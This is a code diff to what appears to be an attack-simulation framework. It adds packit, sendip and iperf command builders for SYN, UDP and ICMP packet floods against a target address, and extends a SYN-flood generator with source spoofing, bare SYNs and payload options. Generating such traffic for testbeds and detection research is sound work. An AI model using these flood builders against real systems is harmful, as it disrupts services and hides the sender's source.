@@ -50,6 +50,18 @@ def _t50(s: Strike, protocol: str, *what: str, rate: float) -> list[str]:
     return ["sh", "-c", f"for i in $(seq {s.count(rate) // burst}); do {one} >/dev/null; sleep 0.25; done"]
 
 
+def _packit(s: Strike, *packet: str, rate: float) -> list[str]:
+    burst = max(1, round(min(rate, MOST_PACKETS_PER_S)))
+    pace = ["-c", str(s.count(rate)), "-b", str(burst), "-w", "1"]
+    return ["packit", *packet, "-i", "eth0", "-s", s.attacker.address, "-d", s.address, *pace]
+
+
+def _sendip(s: Strike, packet: str, *, rate: float) -> list[str]:
+    one = f"sendip -p ipv4 -is {s.attacker.address} {packet} {s.address}"
+    pause = 1 / min(rate, MOST_PACKETS_PER_S)
+    return ["sh", "-c", f"for i in $(seq {s.count(rate)}); do {one}; sleep {pause:.4f}; done"]
+
+
 @tool("flood.syn", package="hping3")
 def hping3_syn(
     s: Strike,
@@ -67,9 +79,16 @@ def hping3_syn(
 
 @tool("flood.syn")
 def own_syn(
-    s: Strike, *, port: int = 80, rate: float = 300.0, spoof: bool = False, ports: int = 1
+    s: Strike,
+    *,
+    port: int = 80,
+    rate: float = 300.0,
+    spoof: bool = False,
+    ports: int = 1,
+    bare: bool = False,
+    size: int = 0,
 ) -> list[str]:
-    """SYNs with the options a real system sends, to one or several ports."""
+    """SYNs with the options a real system sends, or without any, and with data or none, to one or several ports."""
     return own(
         "packets",
         "syn_flood",
@@ -78,6 +97,8 @@ def own_syn(
         rate=rate,
         count=s.count(rate),
         source="" if spoof else s.attacker.address,
+        bare=bare,
+        size=min(size, 1200),
         seed=s.random.getrandbits(32),
         ttl=s.attacker.ttl,
     )
@@ -216,3 +237,61 @@ def t50_udp(s: Strike, *, port: int = 53, rate: float = 200.0) -> list[str]:
 def t50_icmp(s: Strike, *, rate: float = 200.0) -> list[str]:
     """t50's echo requests, a burst every quarter of a second."""
     return _t50(s, "ICMP", "--icmp-type", "8", rate=rate)
+
+
+@tool("flood.syn", package="packit")
+def packit_syn(s: Strike, *, port: int = 80, rate: float = 200.0) -> list[str]:
+    """packit's SYNs, a burst every second: it counts in seconds."""
+    return _packit(s, "-t", "TCP", "-F", "S", "-D", str(port), rate=rate)
+
+
+@tool("flood.udp", package="packit")
+def packit_udp(s: Strike, *, port: int = 53, rate: float = 200.0, text: str = "wirespeak") -> list[str]:
+    """packit's UDP datagrams, a burst every second."""
+    return _packit(s, "-t", "UDP", "-D", str(port), "-p", text, rate=rate)
+
+
+@tool("flood.icmp", package="packit")
+def packit_icmp(s: Strike, *, rate: float = 200.0, timestamp: bool = False) -> list[str]:
+    """packit's echo or timestamp requests, a burst every second."""
+    return _packit(s, "-t", "ICMP", "-K", "13" if timestamp else "8", rate=rate)
+
+
+@tool("flood.syn", package="sendip")
+def sendip_syn(s: Strike, *, port: int = 80, rate: float = 60.0) -> list[str]:
+    """A process of sendip for every SYN, with a random port and window."""
+    return _sendip(s, f"-p tcp -ts r -td {port} -tw r", rate=rate)
+
+
+@tool("flood.udp", package="sendip")
+def sendip_udp(s: Strike, *, port: int = 53, rate: float = 60.0, size: int = 64) -> list[str]:
+    """A process of sendip for every datagram, with a random port."""
+    return _sendip(s, f"-p udp -us r -ud {port} -d r{size}", rate=rate)
+
+
+@tool("flood.icmp", package="sendip")
+def sendip_icmp(s: Strike, *, rate: float = 60.0, size: int = 60) -> list[str]:
+    """A process of sendip for every echo request; identifier and number are random, as the data is."""
+    return _sendip(s, f"-p icmp -ct 8 -d r{size}", rate=rate)
+
+
+@tool("flood.udp", package="iperf")
+def iperf_udp(
+    s: Strike, *, port: int = 5001, rate: float = 200.0, size: int = 400, streams: int = 1
+) -> list[str]:
+    """iperf's datagrams to a port where no iperf listens: one conversation for each of `streams`."""
+    count = s.count(rate)
+    seconds = max(1, int(count / min(rate, MOST_PACKETS_PER_S)))
+    pace = ["-P", str(streams), "-b", f"{count // (seconds * streams)}pps", "-t", str(seconds)]
+    return [
+        "iperf",
+        "--client",
+        s.address,
+        "-u",
+        "-p",
+        str(port),
+        "-l",
+        str(max(60, size)),
+        *pace,
+        "--no-udp-fin",
+    ]
